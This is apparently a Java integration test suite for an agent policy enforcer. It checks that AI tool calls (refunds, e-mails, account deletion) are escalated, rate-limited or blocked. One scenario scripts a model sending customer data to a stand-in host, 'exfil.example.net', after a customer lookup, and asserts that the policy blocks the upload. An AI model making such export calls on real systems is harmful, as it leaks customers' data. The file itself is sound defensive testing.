package dev.warden.agent.it;

import static dev.warden.examples.mockmodel.Script.call;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.warden.agent.it.apps.ToolApp;
import dev.warden.examples.mockmodel.RecordedToolResult;
import dev.warden.examples.mockmodel.Script;
import dev.warden.examples.mockmodel.ScriptedModelServer;
import dev.warden.rules.evidence.EvidenceRecord;
import java.io.File;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * LangChain4j tool calls under the built agent, against the scripted mock model on loopback: an
 * allowed tool runs; a denied one does not and the model receives {@code Blocked by policy
 * <rule>: ...}; {@code args.amount gt 500} escalates (denied with {@code approvals=deny}, run
 * with {@code approvals=allow}); a rate limit blocks the third e-mail; the DESIGN.md egress and
 * exfiltration rules deny the tool's POST to an outside host after a customer read while the
 * model's own traffic ({@code parent: model}) still goes through. Evidence carries the session
 * (the chat memory id), the tool as {@code parent} of its SQL (run in a CompletableFuture async
 * stage on a pool thread) and HTTP (on a thread, a virtual thread on JDK 25, started inside the
 * tool), rule and outcome.
 */
class ToolCallsIT {
    static final String POLICY = """
            version: 1
            name: tools-it
            default: allow
            rules:
              - id: big-refunds-need-approval
                match: { kind: tool, tool: issueRefund, args.amount: { gt: 500 } }
                action: escalate
                approval: { timeout: 2s, on_timeout: deny }
              - id: egress-allowlist
                match: { kind: http, parent: { not: model }, host: { not: ["payments.internal.example", "*.corp.example"] } }
                action: deny
              - id: no-export-after-customer-read
                match: { kind: http, parent: { not: model }, method: [POST, PUT], host: { not: ["*.corp.example"] } }
                after: { kind: sql, tables: customers, operation: SELECT }
                action: deny
              - id: email-rate
                match: { kind: tool, tool: sendEmail }
                limit: { max: 2, per: 1h, scope: session }
                action: deny
              - id: no-account-deletion
                match: { kind: tool, tool: deleteAccount }
                action: deny
            """;

    @TempDir
    Path tmp;

    static String toolsClasspath() throws Exception {
        return System.getProperty("warden.it.classes") + File.pathSeparator
                + Files.readString(AgentRun.libs().resolve("classpath-tools.txt"), StandardCharsets.UTF_8).trim();
    }

    private AgentRun.Result run(Script script, String approvals, Path evidence, ScriptedModelServer[] server) throws Exception {
        return run(script, approvals, evidence, server, null);
    }

    private AgentRun.Result run(Script script, String approvals, Path evidence, ScriptedModelServer[] server, Path java) throws Exception {
        Path policy = Files.writeString(tmp.resolve("policy.yaml"), POLICY);
        ScriptedModelServer model = ScriptedModelServer.start(script);
        server[0] = model;
        AgentRun run = new AgentRun()
                .agent("policy=" + policy + ",agent=tools-it,evidence=" + evidence + ",approvals=" + approvals)
                .main(ToolApp.class, model.baseUrl(), "session-42");
        run.classpath = toolsClasspath();
        if (java != null) {
            run.java = java;
        }
        return run.run();
    }

    private static RecordedToolResult result(ScriptedModelServer model, String tool, String argsFragment) {
        return model.toolResults().stream().filter(t -> t.toolName().equals(tool) && t.arguments().contains(argsFragment)).findFirst()
                .orElseThrow(() -> new AssertionError("the model never received a result of " + tool + " " + argsFragment + ": " + model.toolResults()));
    }

    @Test
    void toolsAreGovernedAndTheModelStillAnswers() throws Exception {
        AgentRun.Result r = scenario(null);
        assertEquals("false", r.value("http on a virtual thread"));
    }

    /** JDK 25: the same, with the upload on a virtual thread started inside the tool. */
    @Test
    void onJdk25WithAVirtualThread() throws Exception {
        java.util.Optional<Path> jdk25 = AgentRun.jdk25();
        Assumptions.assumeTrue(jdk25.isPresent(), "no JDK 25 under /usr/lib/jvm");
        AgentRun.Result r = scenario(jdk25.get());
        assertEquals("true", r.value("http on a virtual thread"));
    }

    private AgentRun.Result scenario(Path java) throws Exception {
        Script script = Script.builder()
                .toolCalls(call("lookupCustomer", "{\"id\":\"c1\"}"))
                .toolCalls(call("sendReport", "{\"url\":\"http://exfil.example.net/upload\"}"))
                .toolCalls(call("issueRefund", "{\"orderId\":\"o1\",\"amount\":600}"))
                .toolCalls(call("issueRefund", "{\"orderId\":\"o2\",\"amount\":100}"))
                .toolCalls(call("sendEmail", "{\"to\":\"a@x\"}"), call("sendEmail", "{\"to\":\"b@x\"}"), call("sendEmail", "{\"to\":\"c@x\"}"))
                .toolCalls(call("deleteAccount", "{\"id\":\"c1\"}"))
                .text("done")
                .build();
        Path evidence = tmp.resolve("evidence");
        ScriptedModelServer[] server = new ScriptedModelServer[1];
        AgentRun.Result r;
        try {
            r = run(script, "deny", evidence, server, java);
        } finally {
            if (server[0] != null) {
                server[0].close();
            }
        }
        ScriptedModelServer model = server[0];
        assertEquals(0, r.exit(), r::toString);
        assertEquals("done", r.value("answer"), r::toString);
        assertTrue(model.errors().isEmpty(), model.errors()::toString);
        assertEquals("true", r.value("sql on another thread"));

        List<String> ran = r.lines().stream().filter(l -> l.startsWith("tool ran: ")).toList();
        assertEquals(List.of("tool ran: lookupCustomer c1", "tool ran: sendReport http://exfil.example.net/upload",
                "tool ran: issueRefund o2 100.0", "tool ran: sendEmail a@x", "tool ran: sendEmail b@x"), ran, r::toString);

        // what the model saw
        assertTrue(result(model, "issueRefund", "o1").content().startsWith("Blocked by policy big-refunds-need-approval: "), model.toolResults()::toString);
        assertEquals("refunded 100.0", result(model, "issueRefund", "o2").content());
        assertTrue(result(model, "sendEmail", "c@x").content().startsWith("Blocked by policy email-rate: "), model.toolResults()::toString);
        assertTrue(result(model, "deleteAccount", "c1").content().startsWith("Blocked by policy no-account-deletion: "), model.toolResults()::toString);
        String upload = result(model, "sendReport", "exfil").content();
        assertTrue(upload.startsWith("upload failed: Blocked by policy "), upload);

        Evidence ev = Evidence.read(evidence);
        // tool decisions: session from the chat memory id, rule and outcome
        List<EvidenceRecord> tools = ev.decisions(d -> "tool".equals(d.kind));
        assertEquals(8, tools.size(), ev.dump());
        for (EvidenceRecord d : tools) {
            assertEquals("session-42", d.session, d.toString());
            assertEquals("langchain4j-memory-id", d.sessionSource, d.toString());
            assertEquals("langchain4j", d.attributes.get("framework"), d.toString());
            assertTrue(d.argsDigest != null && d.argsDigest.startsWith("hmac-sha256:"), d.toString());
            assertFalse(d.toString().contains("o1\""), "tool arguments reached the evidence in clear: " + d);
        }
        EvidenceRecord escalated = ev.decisions(d -> "issueRefund".equals(d.target) && d.rules.contains("big-refunds-need-approval")).get(0);
        assertEquals("deny", escalated.decision, escalated.toString());
        assertEquals("denied", escalated.approvalDecision, escalated.toString());
        assertEquals(null, ev.outcomeOf(escalated), "a blocked tool has no outcome");
        EvidenceRecord small = ev.decisions(d -> "issueRefund".equals(d.target) && d.rules.isEmpty()).get(0);
        assertEquals("allow", small.decision);
        assertEquals("ok", ev.outcomeOf(small).outcomeStatus, ev.dump());
        assertEquals(1, ev.decisions(d -> "sendEmail".equals(d.target) && "deny".equals(d.decision) && d.rules.contains("email-rate")).size(), ev.dump());
        assertEquals(1, ev.decisions(d -> "deleteAccount".equals(d.target) && "deny".equals(d.decision) && d.rules.contains("no-account-deletion")).size(), ev.dump());

        // the tool's SQL and HTTP carry the tool as parent and the tool's session
        EvidenceRecord select = ev.decisions(d -> "sql".equals(d.kind) && "lookupCustomer".equals(d.parent)).get(0);
        assertEquals("session-42", select.session, select.toString());
        EvidenceRecord exfil = ev.decisions(d -> "http".equals(d.kind) && d.target != null && d.target.contains("exfil.example.net")).get(0);
        assertEquals("deny", exfil.decision, exfil.toString());
        assertEquals("sendReport", exfil.parent, exfil.toString());
        assertEquals("session-42", exfil.session, exfil.toString());
        assertTrue(exfil.rules.contains("no-export-after-customer-read"), "the sequence rule across threads: " + exfil);

        // the model's own traffic: parent model, allowed before and after the customer read
        List<EvidenceRecord> modelCalls = ev.decisions(d -> "http".equals(d.kind) && "model".equals(d.parent));
        assertEquals(7, modelCalls.size(), ev.dump());
        for (EvidenceRecord d : modelCalls) {
            assertEquals("allow", d.decision, d.toString());
            assertEquals("session-42", d.session, d.toString());
        }
        return r;
    }

    @Test
    void anApprovedEscalationRuns() throws Exception {
        Script script = Script.builder()
                .toolCalls(call("issueRefund", "{\"orderId\":\"o1\",\"amount\":600}"))
                .text("refunded")
                .build();
        Path evidence = tmp.resolve("evidence");
        ScriptedModelServer[] server = new ScriptedModelServer[1];
        AgentRun.Result r;
        try {
            r = run(script, "allow", evidence, server);
        } finally {
            if (server[0] != null) {
                server[0].close();
            }
        }
        assertEquals(0, r.exit(), r::toString);
        assertTrue(r.lines().contains("tool ran: issueRefund o1 600.0"), r::toString);
        assertEquals("refunded 600.0", result(server[0], "issueRefund", "o1").content());
        Evidence ev = Evidence.read(evidence);
        EvidenceRecord d = ev.decisions(x -> "issueRefund".equals(x.target)).get(0);
        assertEquals("allow", d.decision, d.toString());
        assertTrue(d.rules.contains("big-refunds-need-approval"), d.toString());
        assertEquals("approved", d.approvalDecision, d.toString());
        assertEquals("approvals=allow", d.approver, d.toString());
        assertEquals("ok", ev.outcomeOf(d).outcomeStatus, ev.dump());
    }

    /** Spring AI: the same refusal path (the refusal text is the tool result), escalation and session. */
    @Test
    void springAiToolsAreGoverned() throws Exception {
        Path policy = Files.writeString(tmp.resolve("policy.yaml"), POLICY);
        Path evidence = tmp.resolve("evidence");
        Script script = Script.builder()
                .toolCalls(call("issueRefund", "{\"orderId\":\"o1\",\"amount\":600}"), call("issueRefund", "{\"orderId\":\"o2\",\"amount\":100}"),
                        call("deleteAccount", "{\"id\":\"c1\"}"))
                .text("done")
                .build();
        AgentRun.Result r;
        try (ScriptedModelServer model = ScriptedModelServer.start(script)) {
            AgentRun run = new AgentRun()
                    .agent("policy=" + policy + ",agent=spring-it,evidence=" + evidence + ",approvals=deny")
                    .main(dev.warden.agent.it.apps.SpringToolApp.class, model.baseUrl(), "conversation-7");
            run.classpath = toolsClasspath();
            r = run.run();
            assertEquals(0, r.exit(), r::toString);
            assertEquals("done", r.value("answer"), r::toString);
            List<String> ran = r.lines().stream().filter(l -> l.startsWith("tool ran: ")).toList();
            assertEquals(List.of("tool ran: issueRefund o2 100.0"), ran, r::toString);
            assertTrue(result(model, "issueRefund", "o1").content().contains("Blocked by policy big-refunds-need-approval: "), model.toolResults()::toString);
            assertTrue(result(model, "deleteAccount", "c1").content().contains("Blocked by policy no-account-deletion: "), model.toolResults()::toString);
        }
        Evidence ev = Evidence.read(evidence);
        List<EvidenceRecord> tools = ev.decisions(d -> "tool".equals(d.kind));
        assertEquals(3, tools.size(), ev.dump());
        for (EvidenceRecord d : tools) {
            assertEquals("conversation-7", d.session, d.toString());
            assertEquals("spring-ai-conversation-id", d.sessionSource, d.toString());
            assertEquals("spring-ai", d.attributes.get("framework"), d.toString());
        }
        assertEquals("denied", ev.decisions(d -> "issueRefund".equals(d.target) && !d.rules.isEmpty()).get(0).approvalDecision, ev.dump());
        List<EvidenceRecord> modelCalls = ev.decisions(d -> "http".equals(d.kind) && "model".equals(d.parent));
        assertEquals(2, modelCalls.size(), ev.dump());
        modelCalls.forEach(d -> assertEquals("allow", d.decision, d.toString()));
    }

    /** MCP Java SDK client calling a real MCP server (a forked JVM over stdio, no agent in it). */
    @Test
    void mcpClientToolCallsAreGoverned() throws Exception {
        Path policy = Files.writeString(tmp.resolve("policy.yaml"), POLICY);
        Path evidence = tmp.resolve("evidence");
        Path markers = Files.createDirectories(tmp.resolve("markers"));
        AgentRun run = new AgentRun()
                .agent("policy=" + policy + ",agent=mcp-it,evidence=" + evidence + ",approvals=deny")
                .main(dev.warden.agent.it.apps.McpClientApp.class, markers.toString(), toolsClasspath());
        run.classpath = toolsClasspath();
        AgentRun.Result r = run.run();
        assertEquals(0, r.exit(), r::toString);
        assertTrue(r.value("big refund").startsWith("error=true Blocked by policy big-refunds-need-approval: "), r::toString);
        assertTrue(r.value("small refund").startsWith("error=false issueRefund done"), r::toString);
        assertTrue(r.value("delete").startsWith("error=true Blocked by policy no-account-deletion: "), r::toString);
        assertFalse(Files.exists(markers.resolve("issueRefund-o1")), "the denied refund reached the server");
        assertTrue(Files.exists(markers.resolve("issueRefund-o2")), "the allowed refund never ran");
        assertFalse(Files.exists(markers.resolve("deleteAccount-c1")), "the denied deletion reached the server");

        Evidence ev = Evidence.read(evidence);
        List<EvidenceRecord> tools = ev.decisions(d -> "tool".equals(d.kind));
        assertEquals(3, tools.size(), ev.dump());
        for (EvidenceRecord d : tools) {
            assertEquals("mcp", d.attributes.get("framework"), d.toString());
            assertEquals("mcp-client", d.sessionSource, d.toString());
            assertTrue(d.session.startsWith("mcp-client:"), d.toString());
        }
        assertEquals("denied", ev.decisions(d -> "issueRefund".equals(d.target) && !d.rules.isEmpty()).get(0).approvalDecision, ev.dump());
    }

    static final String CLAMP = """
            version: 1.1
            name: tools-modify-it
            default: allow
            rules:
              - id: clamp-refunds
                match: { kind: tool, tool: issueRefund }
                action: modify
                modify: { args.amount: { max: 500 } }
            """;

    /** {@code action: modify} on tool arguments: the tool runs with the clamped amount, in LangChain4j and Spring AI. */
    @Test
    void modifiedArgumentsReachTheTool() throws Exception {
        Path policy = Files.writeString(tmp.resolve("clamp.yaml"), CLAMP);
        for (Class<?> app : List.of(ToolApp.class, dev.warden.agent.it.apps.SpringToolApp.class)) {
            Path evidence = tmp.resolve("evidence-" + app.getSimpleName());
            Script script = Script.builder().toolCalls(call("issueRefund", "{\"orderId\":\"o9\",\"amount\":900}")).text("done").build();
            try (ScriptedModelServer model = ScriptedModelServer.start(script)) {
                AgentRun run = new AgentRun()
                        .agent("policy=" + policy + ",agent=modify-it,evidence=" + evidence)
                        .main(app, model.baseUrl(), "session-m");
                run.classpath = toolsClasspath();
                AgentRun.Result r = run.run();
                assertEquals(0, r.exit(), r::toString);
                assertTrue(r.lines().contains("tool ran: issueRefund o9 500.0"), r::toString);
                assertEquals("refunded 500.0", result(model, "issueRefund", "o9").content().replace("\"", ""));
            }
            Evidence ev = Evidence.read(evidence);
            EvidenceRecord d = ev.decisions(x -> "issueRefund".equals(x.target)).get(0);
            assertEquals("modify", d.decision, d.toString());
            assertTrue(d.rules.contains("clamp-refunds"), d.toString());
            assertEquals("ok", ev.outcomeOf(d).outcomeStatus, ev.dump());
        }
    }

    /**
     * {@code approvals=collector} with a collector nobody answers on: the escalated refund waits
     * for the rule's 2 s timeout on the calling thread, then {@code on_timeout: deny} blocks it.
     */
    @Test
    void aTimedOutEscalationIsBlocked() throws Exception {
        Path policy = Files.writeString(tmp.resolve("policy.yaml"), POLICY);
        Path evidence = tmp.resolve("evidence");
        Script script = Script.builder().toolCalls(call("issueRefund", "{\"orderId\":\"o1\",\"amount\":600}")).text("done").build();
        try (ScriptedModelServer model = ScriptedModelServer.start(script)) {
            AgentRun run = new AgentRun()
                    .agent("policy=" + policy + ",agent=timeout-it,evidence=" + evidence + ",collector=127.0.0.1:9,approvals=collector")
                    .main(ToolApp.class, model.baseUrl(), "session-t");
            run.classpath = toolsClasspath();
            AgentRun.Result r = run.run();
            assertEquals(0, r.exit(), r::toString);
            assertFalse(r.stdout().contains("tool ran: issueRefund"), r::toString);
            assertTrue(result(model, "issueRefund", "o1").content().startsWith("Blocked by policy big-refunds-need-approval: "), model.toolResults()::toString);
        }
        Evidence ev = Evidence.read(evidence);
        EvidenceRecord d = ev.decisions(x -> "issueRefund".equals(x.target)).get(0);
        assertEquals("deny", d.decision, d.toString());
        assertTrue(List.of("timeout", "unavailable").contains(d.approvalDecision), d.toString());
        assertTrue(d.approvalWaitedMs >= 1500, "the call did not wait for the approval timeout: " + d);
        assertEquals(null, d.approver, d.toString());
    }

    /** MCP server side: the server JVM runs under the agent and refuses the tool calls itself. */
    @Test
    void mcpServerToolCallsAreGoverned() throws Exception {
        Path policy = Files.writeString(tmp.resolve("policy.yaml"), POLICY);
        Path evidence = tmp.resolve("evidence");
        Path markers = Files.createDirectories(tmp.resolve("markers"));
        String serverAgent = "-javaagent:" + AgentRun.agentJar() + "=policy=" + policy + ",agent=mcp-server-it,evidence=" + evidence + ",approvals=deny";
        AgentRun run = new AgentRun().main(dev.warden.agent.it.apps.McpClientApp.class, markers.toString(), toolsClasspath(), serverAgent);
        run.classpath = toolsClasspath();
        AgentRun.Result r = run.run();
        assertEquals(0, r.exit(), r::toString);
        assertTrue(r.value("big refund").startsWith("error=true Blocked by policy big-refunds-need-approval: "), r::toString);
        assertTrue(r.value("small refund").startsWith("error=false issueRefund done"), r::toString);
        assertTrue(r.value("delete").startsWith("error=true Blocked by policy no-account-deletion: "), r::toString);
        assertFalse(Files.exists(markers.resolve("issueRefund-o1")), "the denied refund ran on the server");
        assertTrue(Files.exists(markers.resolve("issueRefund-o2")), "the allowed refund never ran");
        assertFalse(Files.exists(markers.resolve("deleteAccount-c1")), "the denied deletion ran on the server");

        Evidence ev = Evidence.read(evidence);
        List<EvidenceRecord> tools = ev.decisions(d -> "tool".equals(d.kind));
        assertEquals(3, tools.size(), ev.dump());
        for (EvidenceRecord d : tools) {
            assertEquals("mcp", d.attributes.get("framework"), d.toString());
            assertEquals("mcp-session", d.sessionSource, d.toString());
        }
        assertEquals("ok", ev.outcomeOf(ev.decisions(d -> "issueRefund".equals(d.target) && "allow".equals(d.decision)).get(0)).outcomeStatus, ev.dump());
    }

    /** A custom tool ({@code class#method} from {@code config=FILE}): arguments by parameter name; a denial is the block exception. */
    @Test
    void customToolsFromTheConfigFileAreGoverned() throws Exception {
        Path policy = Files.writeString(tmp.resolve("policy.yaml"), POLICY);
        Path config = Files.writeString(tmp.resolve("warden.yaml"), """
                tools:
                  - hook: com.acme.payments.Payments#refund
                    name: issueRefund
                """);
        Path evidence = tmp.resolve("evidence");
        AgentRun run = new AgentRun()
                .agent("policy=" + policy + ",agent=custom-it,evidence=" + evidence + ",approvals=deny,config=" + config)
                .main(com.acme.payments.Payments.class);
        run.classpath = toolsClasspath();
        AgentRun.Result r = run.run();
        assertEquals(0, r.exit(), r::toString);
        assertTrue(r.value("result o1").startsWith("blocked dev.warden.agent.bootstrap.BlockedIOException Blocked by policy big-refunds-need-approval: "), r::toString);
        assertEquals("refunded 100.0", r.value("result o2"), r::toString);
        assertFalse(r.stdout().contains("tool ran: refund o1"), r::toString);
        Evidence ev = Evidence.read(evidence);
        List<EvidenceRecord> tools = ev.decisions(d -> "tool".equals(d.kind));
        assertEquals(2, tools.size(), ev.dump());
        tools.forEach(d -> assertEquals("custom", d.attributes.get("framework"), d.toString()));
        assertEquals("deny", tools.get(0).decision, ev.dump());
        assertEquals("allow", tools.get(1).decision, ev.dump());
        assertEquals("ok", ev.outcomeOf(tools.get(1)).outcomeStatus, ev.dump());
    }
}
